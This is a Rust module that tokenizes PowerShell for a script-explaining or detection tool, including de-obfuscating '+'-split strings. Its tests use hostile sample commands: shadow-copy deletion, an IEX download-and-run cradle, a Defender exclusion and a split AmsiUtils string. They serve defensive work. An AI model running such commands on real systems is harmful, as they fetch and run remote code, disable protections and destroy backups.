//! PowerShell, read far enough to name the commands a script runs and their arguments: strings
//! ('…' with '' and "…" with backtick escapes), parameters (-Name, -Name:value), groups
//! ((…), $(…), @(…), […]) and script blocks ({…}) kept whole, pipelines (`|`) and statements
//! (`;`, new lines, `&&`, `||`). The contents of groups and blocks are read as scripts too, so
//! `IEX (iwr …)` and `ForEach-Object { … }` show their commands. Not a PowerShell parser:
//! enough of one for explaining, never failing.

use super::Mapped;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TokenKind {
    /// A bare word: a command name, a value, a path.
    Word,
    /// A quoted string; `text` is its value without the quotes.
    Str,
    /// `-Name` or `-Name:value`.
    Param,
    /// `(…)`, `$(…)`, `@(…)`, `[…]`, or a word with them (`(New-Object X).Download(…)`).
    Group,
    /// `{…}`.
    Block,
    /// The call operator `&` or the dot-source operator `.` before a command.
    Call,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Token {
    pub kind: TokenKind,
    pub text: Mapped,
    /// Original span as written (quotes included).
    pub raw: (usize, usize),
}

/// One command of a pipeline: its name and arguments.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Command {
    pub tokens: Vec<Token>,
    /// The whole command as written.
    pub text: Mapped,
    /// Its output goes through `|` to the next command of the same pipeline (the next
    /// command in the list).
    pub piped: bool,
}

impl Command {
    /// The word that names the command (after `&` or `.`); none for an expression statement
    /// (`$x.Delete()`, `'text'`).
    pub fn name(&self) -> Option<&Token> {
        match self.tokens.first()?.kind {
            TokenKind::Call => self.tokens.get(1),
            TokenKind::Word => self.tokens.first(),
            _ => None,
        }
    }
}

/// The script with string literals that `+` splits joined back (`'Am'+'siUtils'` reads
/// `'AmsiUtils'`): words that patterns look for are often split this way to escape them.
/// Each kept byte keeps its position, so a match still underlines the right characters.
pub fn join_concatenated(script: &Mapped) -> Mapped {
    let chars: Vec<(usize, char)> = script.text.char_indices().collect();
    let mut out = Mapped::with_capacity(script.text.len());
    let mut i = 0;
    while i < chars.len() {
        let (b, c) = chars[i];
        if c == '\'' || c == '"' {
            // A closing quote, `+`, and an opening quote of the same kind: the joint goes.
            let skip = |mut k: usize| {
                while chars.get(k).is_some_and(|x| x.1 == ' ') {
                    k += 1;
                }
                k
            };
            let j = skip(i + 1);
            if chars.get(j).is_some_and(|x| x.1 == '+') {
                let k = skip(j + 1);
                if chars.get(k).is_some_and(|x| x.1 == c) {
                    i = k + 1;
                    continue;
                }
            }
        }
        out.push(c, script.span_of(b, b + c.len_utf8()).0);
        i += 1;
    }
    out.finish(script.span().1)
}

/// How deep groups and blocks are read as scripts: a script nested deeper is matched only by
/// patterns over its text.
const MAX_DEPTH: usize = 8;

/// The commands of a script, those inside groups and blocks after the one that holds them.
pub fn commands(script: &Mapped) -> Vec<Command> {
    let mut out = Vec::new();
    commands_into(script, 0, &mut out);
    out
}

fn commands_into(script: &Mapped, depth: usize, out: &mut Vec<Command>) {
    let chars: Vec<(usize, char)> = script.text.char_indices().collect();
    let len = script.text.len();
    let at = |i: usize| chars.get(i).map_or(len, |&(b, _)| b);
    let mut i = 0;
    let mut tokens: Vec<Token> = Vec::new();
    let mut cmd_start = 0;
    let mut inner: Vec<Mapped> = Vec::new();
    let end_command =
        |tokens: &mut Vec<Token>, start: usize, end: usize, piped: bool, out: &mut Vec<Command>| {
            if !tokens.is_empty() {
                out.push(Command {
                    tokens: std::mem::take(tokens),
                    text: script.slice(start, end).trim(),
                    piped,
                });
            }
        };
    while i < chars.len() {
        let c = chars[i].1;
        match c {
            ' ' | '\t' | '\r' => i += 1,
            '`' if chars
                .get(i + 1)
                .is_some_and(|&(_, n)| n == '\n' || n == '\r') =>
            {
                i += 2
            }
            '\n' | ';' => {
                end_command(&mut tokens, cmd_start, at(i), false, out);
                i += 1;
                cmd_start = at(i);
            }
            '|' | '&' if chars.get(i + 1).is_some_and(|&(_, n)| n == c) => {
                end_command(&mut tokens, cmd_start, at(i), false, out);
                i += 2;
                cmd_start = at(i);
            }
            '|' => {
                end_command(&mut tokens, cmd_start, at(i), true, out);
                i += 1;
                cmd_start = at(i);
            }
            '#' => {
                while i < chars.len() && chars[i].1 != '\n' {
                    i += 1;
                }
            }
            '<' if chars.get(i + 1).is_some_and(|&(_, n)| n == '#') => {
                let rest = &script.text[at(i)..];
                i = match rest.find("#>") {
                    Some(p) => index_of(&chars, at(i) + p + 2),
                    None => chars.len(),
                };
            }
            '&' | '.' if tokens.is_empty() && next_is_space_or_quote(&chars, i) => {
                tokens.push(Token {
                    kind: TokenKind::Call,
                    text: script.slice(at(i), at(i + 1)),
                    raw: script.span_of(at(i), at(i + 1)),
                });
                i += 1;
            }
            _ => {
                let (tok, next, groups) = token(script, &chars, i);
                inner.extend(groups);
                tokens.push(tok);
                i = next;
            }
        }
    }
    end_command(&mut tokens, cmd_start, len, false, out);
    if depth < MAX_DEPTH {
        for g in inner {
            commands_into(&g, depth + 1, out);
        }
    }
}

fn next_is_space_or_quote(chars: &[(usize, char)], i: usize) -> bool {
    chars
        .get(i + 1)
        .is_none_or(|&(_, n)| n.is_whitespace() || n == '"' || n == '\'' || n == '$')
}

fn index_of(chars: &[(usize, char)], byte: usize) -> usize {
    chars.partition_point(|&(b, _)| b < byte)
}

/// Reads one token from `chars[i]`; returns it, the index after it, and the insides of the
/// groups and blocks it holds (to be read as scripts).
fn token(script: &Mapped, chars: &[(usize, char)], start: usize) -> (Token, usize, Vec<Mapped>) {
    let len = script.text.len();
    let at = |i: usize| chars.get(i).map_or(len, |&(b, _)| b);
    let first = chars[start].1;
    let mut groups = Vec::new();
    // A whole quoted string.
    if first == '\'' || first == '"' {
        let mut value = Mapped::with_capacity(32);
        let mut i = start + 1;
        while i < chars.len() {
            let c = chars[i].1;
            let orig = script.span_of(at(i), at(i + 1)).0;
            if c == first {
                if chars.get(i + 1).is_some_and(|&(_, n)| n == first) {
                    value.push(c, orig);
                    i += 2;
                    continue;
                }
                break;
            }
            if c == '`' && first == '"' {
                if let Some(&(_, n)) = chars.get(i + 1) {
                    let o = script.span_of(at(i + 1), at(i + 2)).0;
                    value.push(unescape(n), o);
                }
                i += 2;
                continue;
            }
            value.push(c, orig);
            i += 1;
        }
        let end = (i + 1).min(chars.len());
        let value = value.finish(script.span_of(at(i), at(i)).0);
        if first == '"' && value.text.contains("$(") {
            groups.push(value.clone());
        }
        return (
            Token {
                kind: TokenKind::Str,
                text: value,
                raw: script.span_of(at(start), at(end)),
            },
            end,
            groups,
        );
    }
    // A word, which may hold groups and blocks: read to white space or a separator at depth 0.
    let mut i = start;
    let mut stack: Vec<char> = Vec::new();
    let mut quote: Option<char> = None;
    let mut group_start = 0;
    let mut has_group = false;
    let mut is_block = false;
    while i < chars.len() {
        let c = chars[i].1;
        if let Some(q) = quote {
            if c == q {
                quote = None;
            } else if c == '`' && q == '"' {
                i += 1;
            }
            i += 1;
            continue;
        }
        match c {
            '\'' | '"' if !stack.is_empty() => quote = Some(c),
            '`' => i += 1,
            '(' | '{' | '[' => {
                if stack.is_empty() {
                    group_start = i + 1;
                    has_group = true;
                    is_block = c == '{' && i == start;
                }
                stack.push(match c {
                    '(' => ')',
                    '{' => '}',
                    _ => ']',
                });
            }
            ')' | '}' | ']' if stack.last() == Some(&c) => {
                stack.pop();
                if stack.is_empty() && c != ']' {
                    groups.push(script.slice(at(group_start), at(i)));
                }
            }
            ')' | '}' | ']' if stack.is_empty() => break,
            c if stack.is_empty() && (c.is_whitespace() || c == ';' || c == '|') => break,
            _ => {}
        }
        i += 1;
    }
    let i = i.min(chars.len());
    let text = script.slice(at(start), at(i));
    let kind = if is_block && stack.is_empty() && text.text.ends_with('}') {
        TokenKind::Block
    } else if has_group {
        TokenKind::Group
    } else if first == '-'
        && text.text.len() > 1
        && !text.text[1..].starts_with(|c: char| c.is_ascii_digit())
    {
        TokenKind::Param
    } else {
        TokenKind::Word
    };
    let raw = text.span();
    // Never stall: a stray closing bracket is a token of its own.
    let next = if i == start { start + 1 } else { i };
    let text = if i == start {
        script.slice(at(start), at(start + 1))
    } else {
        text
    };
    (Token { kind, text, raw }, next, groups)
}

fn unescape(c: char) -> char {
    match c {
        'n' => '\n',
        't' => '\t',
        'r' => '\r',
        '0' => '\0',
        c => c,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(s: &str) -> Vec<String> {
        commands(&Mapped::new(s, 0))
            .iter()
            .filter_map(|c| c.name().map(|t| t.text.text.clone()))
            .collect()
    }

    #[test]
    fn pipelines_statements_and_blocks_name_their_commands() {
        assert_eq!(
            names("Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }; whoami"),
            ["Get-WmiObject", "ForEach-Object", "whoami"]
        );
        assert_eq!(
            names("IEX (New-Object Net.WebClient).DownloadString('http://x/a')"),
            ["IEX", "New-Object"]
        );
    }

    #[test]
    fn a_command_knows_when_its_output_is_piped_on() {
        let piped: Vec<bool> = commands(&Mapped::new("gsv x | spsv -Force; whoami || a", 0))
            .iter()
            .map(|c| c.piped)
            .collect();
        assert_eq!(piped, [true, false, false, false]);
    }

    #[test]
    fn strings_lose_their_quotes_and_keep_their_place() {
        let s = r#"Set-MpPreference -ExclusionPath 'C:\Us''ers' -Force"#;
        let c = &commands(&Mapped::new(s, 0))[0];
        assert_eq!(c.tokens[1].kind, TokenKind::Param);
        assert_eq!(c.tokens[2].text.text, r"C:\Us'ers");
        let (a, b) = c.tokens[2].raw;
        assert_eq!(&s[a..b], r"'C:\Us''ers'");
    }

    #[test]
    fn concatenated_literals_join_back() {
        let m = Mapped::detached("GetType('System.Management.Automation.Am'+'siUtils') + $x");
        let j = join_concatenated(&m);
        assert_eq!(
            j.text,
            "GetType('System.Management.Automation.AmsiUtils') + $x"
        );
        let at = j.text.find("AmsiUtils").unwrap();
        assert_eq!(j.span_of(at, at + 9), (38, 50));
    }

    #[test]
    fn call_operator_and_unbalanced_input() {
        assert_eq!(names(r#"& "C:\x y\a.exe" -q"#), [r"C:\x y\a.exe"]);
        assert_eq!(names("a ((( }} ]] 'b"), ["a"]);
    }
}
